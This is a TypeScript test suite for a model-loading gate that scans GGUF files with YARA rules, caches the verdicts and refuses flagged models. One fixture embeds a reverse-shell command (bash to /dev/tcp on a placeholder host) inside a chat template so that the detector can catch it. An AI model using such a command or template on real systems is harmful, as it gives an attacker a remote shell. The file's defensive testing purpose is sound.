import { strict as assert } from 'node:assert';
import { existsSync } from 'node:fs';
import { spawn } from 'node:child_process';
import { copyFile, mkdir, readFile, stat, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { openEngine, validateModelFile } from '../../../src/core/engines';
import { readRulePack } from '../../../src/core/scan/rules';
import { ruleVerdictStats } from '../../../src/core/scan/rule-verdicts';
import { RefusedError } from '../../../src/core/util/errors';
import { buildTinyLlama, CHATML_TEMPLATE } from '../../fixtures/gguf/tiny-llama';
import { REPO_ROOT, runCli } from '../../helpers/cli';
import { tempDir } from '../../helpers/tmp';
import { makeRepo, type TestRepo } from '../registry/repo';

/** A structurally valid GGUF whose chat template carries a reverse shell (the format reader passes it). */
const REVSHELL_TEMPLATE = `${CHATML_TEMPLATE}{% if false %}{{ 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1' }}{% endif %}`;

function refusedBy(rule: string): (err: Error) => boolean {
  return (err) => {
    assert.ok(err instanceof RefusedError, `${err.name}: ${err.message}`);
    assert.match(err.message, new RegExp(`rule ${rule.replace('/', '\\/')} \\(critical\\)`));
    return true;
  };
}

describe('the load gate runs the malware rules (validateModelFile)', function () {
  this.timeout(120_000);
  let dir: { path: string; cleanup: () => Promise<void> };
  let benign: string;
  let evil: string;
  let cacheFile: string;
  const previousCache = process.env.XDG_CACHE_HOME;
  before(async () => {
    dir = await tempDir('sovereign-loadgate-');
    // Loads that name no cache file (openEngine) use the user's cache dir: a temporary one here.
    process.env.XDG_CACHE_HOME = join(dir.path, 'user-cache');
    benign = join(dir.path, 'benign.gguf');
    evil = join(dir.path, 'revshell.gguf');
    await writeFile(benign, buildTinyLlama().bytes);
    await writeFile(evil, buildTinyLlama({ chatTemplate: REVSHELL_TEMPLATE }).bytes);
    cacheFile = join(dir.path, 'cache', 'rule-verdicts.json');
  });
  after(async () => {
    if (previousCache === undefined) delete process.env.XDG_CACHE_HOME;
    else process.env.XDG_CACHE_HOME = previousCache;
    await dir.cleanup();
  });

  it('refuses a GGUF with a reverse shell in its chat template, naming the rule, with and without the policy gate; the benign model loads', async () => {
    // The format reader alone lets it through: this is what the gate did before the rules ran on loads.
    const readersOnly = await validateModelFile(evil, { gate: null, rules: null });
    assert.equal(readersOnly.format, 'gguf');
    await assert.rejects(validateModelFile(evil, { rules: { cacheFile: null } }), refusedBy('yara/reverse_shell'));
    await assert.rejects(validateModelFile(evil, { gate: null, rules: { cacheFile: null } }), (err: Error) => {
      assert.match(err.message, /before any native code saw it: rule yara\/reverse_shell \(critical\): /);
      assert.match((err as RefusedError).hint ?? '', /sovereign scan/);
      return true;
    });
    // openEngine (serve, bench, eval, the extension's local engines) goes through the same gate.
    await assert.rejects(openEngine(evil, { gate: null }), refusedBy('yara/reverse_shell'));
    const opened = await openEngine(benign, { gate: null, load: { threads: 1, contextSize: 64 } });
    try {
      assert.equal(opened.description.kind, 'gguf');
      assert.ok(opened.model.rules, 'the rule stage ran on the benign model');
      assert.deepEqual(opened.model.findings.filter((f) => f.rule.startsWith('yara/')), []);
    } finally {
      await opened.engine.stop();
    }
  });

  it('caches the verdict by sha256 and rule pack: a second load of the same bytes does not scan, even from another path', async () => {
    const scans = ruleVerdictStats.scans;
    const first = await validateModelFile(benign, { gate: null, rules: { cacheFile } });
    assert.equal(first.rules?.cached, false);
    assert.equal(ruleVerdictStats.scans, scans + 1, 'the first load scanned');
    assert.ok(existsSync(cacheFile));
    const hits = ruleVerdictStats.hits;
    const second = await validateModelFile(benign, { gate: null, rules: { cacheFile } });
    assert.deepEqual(second.rules, { pack: first.rules!.pack, cached: true });
    assert.equal(ruleVerdictStats.scans, scans + 1, 'the second load did not scan');
    assert.equal(ruleVerdictStats.hits, hits + 1);
    const copy = join(dir.path, 'copy-of-benign.gguf');
    await copyFile(benign, copy);
    assert.equal((await validateModelFile(copy, { gate: null, rules: { cacheFile } })).rules?.cached, true, 'same bytes elsewhere: same verdict');
    assert.equal(ruleVerdictStats.scans, scans + 1);

    // A refusal is cached too, and still refuses, naming the rule and the path it is loaded from now.
    await assert.rejects(validateModelFile(evil, { gate: null, rules: { cacheFile } }), refusedBy('yara/reverse_shell'));
    const evilCopy = join(dir.path, 'moved.gguf');
    await copyFile(evil, evilCopy);
    const afterEvil = ruleVerdictStats.scans;
    await assert.rejects(validateModelFile(evilCopy, { gate: null, rules: { cacheFile } }), (err: Error) => {
      refusedBy('yara/reverse_shell')(err);
      assert.ok(err.message.includes(evilCopy), err.message);
      return true;
    });
    assert.equal(ruleVerdictStats.scans, afterEvil, 'the cached refusal did not rescan');
    const stored = JSON.parse(await readFile(cacheFile, 'utf8')) as { v: number; entries: Record<string, unknown> };
    assert.equal(Object.keys(stored.entries).length, 2, 'one verdict per (bytes, pack)');
  });

  it('a changed rule pack invalidates the cached verdicts: a new rule that matches the benign model refuses it', async () => {
    const rulesDir = join(dir.path, 'org');
    const ruleFile = join(rulesDir, 'org.yar');
    await tempWrite(ruleFile, 'rule org_harmless { strings: $a = "never-in-any-model-0xdeadbeef" condition: $a }\n');
    const extra = [{ path: ruleFile, name: 'org/org.yar' }];
    const base = await validateModelFile(benign, { gate: null, rules: { cacheFile } });
    assert.equal(base.rules?.cached, true, 'cached under the default pack (previous test)');
    const withPack = await validateModelFile(benign, { gate: null, rules: { extra, cacheFile } });
    assert.equal(withPack.rules?.cached, false, 'another pack: scanned again');
    assert.notEqual(withPack.rules?.pack, base.rules?.pack);
    assert.equal((await validateModelFile(benign, { gate: null, rules: { extra, cacheFile } })).rules?.cached, true);

    // The same file, another text: a rule that matches the ChatML template of the benign model.
    await writeFile(ruleFile, 'rule org_no_chatml { meta: severity = "critical" strings: $a = "<|im_start|>" condition: $a }\n');
    const changed = await readRulePack({ extra });
    assert.notEqual(changed.digest, withPack.rules?.pack);
    const scans = ruleVerdictStats.scans;
    await assert.rejects(validateModelFile(benign, { gate: null, rules: { extra, cacheFile } }), refusedBy('yara/org_no_chatml'));
    assert.equal(ruleVerdictStats.scans, scans + 1, 'the changed rule ran');
  });

  it('without the YARA-X binary for the platform, every load carries yara/unavailable (medium, never cached); a policy with max_severity low refuses it', async () => {
    const missing = (): never => {
      throw new Error('Cannot find native binding. npm has a bug related to optional dependencies');
    };
    const file = join(dir.path, 'unavailable-cache.json');
    for (let i = 0; i < 2; i++) {
      const model = await validateModelFile(benign, { gate: null, rules: { cacheFile: file, engine: missing } });
      assert.equal(model.rules?.cached, false, 'not a verdict: never read from the cache');
      const [f] = model.findings.filter((x) => x.rule.startsWith('yara/'));
      assert.equal(f?.rule, 'yara/unavailable');
      assert.equal(f.severity, 'medium');
      assert.match(f.message, /did not run on this file: the engine cannot be loaded on linux-x64 \(Cannot find native binding/);
    }
    assert.equal(existsSync(file), false, 'nothing stored');
    // The evil model, unscanned, is let through under the default ceiling (medium) ...
    assert.equal((await validateModelFile(evil, { rules: { cacheFile: file, engine: missing } })).format, 'gguf');
    // ... and refused by a policy that wants every file scanned (the policy gate applies the ceiling).
    const repo = await makeRepo();
    try {
      await repo.write('.sovereign/policy.yaml', 'version: 1\nscan:\n  max_severity: low\n');
      await assert.rejects(validateModelFile(evil, { workspaceRoot: repo.root, rules: { cacheFile: file, engine: missing } }), (err: Error) => {
        assert.ok(err instanceof RefusedError);
        assert.match(err.message, /policy rule scan-severity: .* worst scan finding is medium, above the policy ceiling low/);
        return true;
      });
    } finally {
      await repo.cleanup();
    }
  });

  describe('in a workspace', () => {
    let repo: TestRepo;
    before(async () => {
      repo = await makeRepo();
    });
    after(() => repo.cleanup());

    it('runs the policy\'s scan.yara_rules packs on loads (openEngine with the workspace\'s policy gate)', async () => {
      await repo.write('rules/org/chatml.yar', 'rule org_chatml_banned { meta: severity = "critical" strings: $a = "<|im_start|>" condition: $a }\n');
      await repo.write('.sovereign/policy.yaml', 'version: 1\nscan:\n  yara_rules: [rules/org/]\n');
      await assert.rejects(openEngine(benign, { workspaceRoot: repo.root }), refusedBy('yara/org_chatml_banned'));
      // Under another gate (serve --policy FILE: a deployment's policy, no repository) the default pack only.
      const other = await validateModelFile(benign, { workspaceRoot: repo.root, gate: null, rules: { cacheFile } });
      assert.equal(other.format, 'gguf');
    });
  });

  describe('sovereign serve (the CLI, bundled)', () => {
    before(function () {
      if (!existsSync(join(REPO_ROOT, 'dist', 'cli.js'))) throw new Error('dist/cli.js is missing: run "node esbuild.mjs" first');
    });

    it('refuses the reverse-shell GGUF (exit 1, rule named) before listening; a second refusal comes from the cache', async () => {
      const env = { XDG_CACHE_HOME: join(dir.path, 'xdg') };
      const first = await runCli(['serve', '--model', evil, '--port', '0'], { cwd: dir.path, env });
      assert.equal(first.code, 1, first.stderr);
      assert.match(first.stderr, /yara\/reverse_shell \(critical\)/);
      assert.doesNotMatch(first.stderr, /listening on/);
      assert.equal(first.stdout, '');
      const cached = JSON.parse(await readFile(join(dir.path, 'xdg', 'sovereign', 'rule-verdicts.json'), 'utf8')) as { entries: Record<string, { f: { rule: string }[] }> };
      assert.deepEqual(Object.values(cached.entries).map((e) => e.f.map((f) => f.rule)), [['yara/reverse_shell']]);
      const cachePath = join(dir.path, 'xdg', 'sovereign', 'rule-verdicts.json');
      const before = await stat(cachePath);
      const again = await runCli(['serve', '--model', evil, '--port', '0'], { cwd: dir.path, env });
      assert.equal(again.code, 1);
      assert.match(again.stderr, /yara\/reverse_shell \(critical\)/);
      const after = await stat(cachePath);
      assert.deepEqual([after.ino, after.mtimeMs], [before.ino, before.mtimeMs], 'the cached verdict was read, nothing new was stored');
    });

    it('serves the benign model and says whether the rules scanned it or the cached verdict applied', async () => {
      const env = { XDG_CACHE_HOME: join(dir.path, 'xdg-benign') };
      const serveOnce = async (): Promise<string> => {
        const child = spawn(process.execPath, [join(REPO_ROOT, 'bin', 'sovereign.js'), 'serve', '--model', benign, '--port', '0', '--threads', '1', '--ctx', '64'], { cwd: dir.path, env: { ...process.env, ...env }, stdio: ['ignore', 'pipe', 'pipe'] });
        let out = '';
        let err = '';
        child.stdout.on('data', (c: Buffer) => (out += c.toString()));
        child.stderr.on('data', (c: Buffer) => (err += c.toString()));
        const exited = new Promise((r) => child.on('exit', r));
        for (let i = 0; i < 600 && !out.includes('\n') && child.exitCode === null; i++) await new Promise((r) => setTimeout(r, 100));
        child.kill('SIGTERM');
        await exited;
        assert.match(out, /"kind":"gguf"/, err);
        return err;
      };
      assert.match(await serveOnce(), /malware rules: scanned, no blocking finding \(rule pack [0-9a-f]{12}\)/);
      assert.match(await serveOnce(), /malware rules: verdict reused from the cache \(same bytes, same rule pack\)/);
    });
  });
});

async function tempWrite(path: string, text: string): Promise<void> {
  await mkdir(join(path, '..'), { recursive: true });
  await writeFile(path, text);
}
